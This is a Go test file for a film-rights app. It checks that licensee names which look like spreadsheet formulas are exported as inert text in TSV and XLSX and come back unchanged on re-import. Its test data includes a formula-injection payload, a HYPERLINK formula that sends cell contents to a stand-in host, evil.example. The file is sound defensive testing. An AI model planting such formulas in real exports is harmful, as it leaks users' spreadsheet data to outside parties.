package avails_test

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/silkbridge/silkbridge/internal/auth"
	"github.com/silkbridge/silkbridge/internal/avails"
	"github.com/silkbridge/silkbridge/internal/rights"
	"github.com/silkbridge/silkbridge/internal/store/storetest"
)

// TestExportNeutralisesFormulas: a licensee named like a spreadsheet formula
// is exported as text (a leading quote in TSV, a string cell in XLSX), and
// importing the export gives back the name exactly.
func TestExportNeutralisesFormulas(t *testing.T) {
	b := setup(t, storetest.OpenSQLite)
	ctx := storetest.As("cmg", auth.RoleEditor)
	hold := rights.HoldingInput{Terms: rights.Terms{Territories: []string{"WORLD"}, Media: []rights.Media{rights.SVOD}, Start: "2025-01-01"}}
	if _, err := b.rights.AddHolding(ctx, b.film, hold); err != nil {
		t.Fatal(err)
	}
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+7 495 000", "-1+2", "@SUM(A1)"}
	for i, name := range names {
		lic := rights.LicenceInput{Licensee: name, Terms: rights.Terms{Territories: []string{[]string{"RU", "BY", "KZ", "CN"}[i]},
			Media: []rights.Media{rights.SVOD}, Start: "2025-01-01", End: sp("2025-12-31")}}
		if _, err := b.rights.AddLicence(ctx, b.film, lic); err != nil {
			t.Fatal(err)
		}
	}
	tsv, _, err := b.avails.Export(ctx, avails.ExportOptions{Kind: rights.KindLicences, Format: avails.TSV})
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(string(tsv)), "\n") {
		for _, cell := range strings.Split(line, "\t") {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Fatalf("TSV cell %q would run as a formula", cell)
			}
		}
	}
	if !strings.Contains(string(tsv), "\t'=HYPERLINK(") || !strings.Contains(string(tsv), "\t'@SUM(A1)\t") {
		t.Fatalf("TSV lost the quoted names:\n%s", tsv)
	}
	xlsx, _, err := b.avails.Export(ctx, avails.ExportOptions{Kind: rights.KindLicences, Format: avails.XLSX})
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/") {
			rc, _ := f.Open()
			x, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
				t.Fatalf("%s holds a formula", f.Name)
			}
		}
	}
	for _, format := range []avails.Format{avails.TSV, avails.XLSX} {
		data := map[avails.Format][]byte{avails.TSV: tsv, avails.XLSX: xlsx}[format]
		seen := map[string]bool{}
		sheets, err := avails.Read(data, format)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range sheets[0].Rows {
			seen[r.Get("Licensee")] = true
		}
		for _, name := range names {
			if !seen[name] {
				t.Fatalf("%s: licensee %q did not come back (got %v)", format, name, seen)
			}
		}
		rep, err := b.avails.Import(ctx, data, avails.ImportOptions{Kind: rights.KindLicences})
		if err != nil || !rep.Committed || rep.Updated != len(names) || rep.Created != 0 {
			t.Fatalf("%s re-import = %+v, %v", format, rep, err)
		}
	}
}
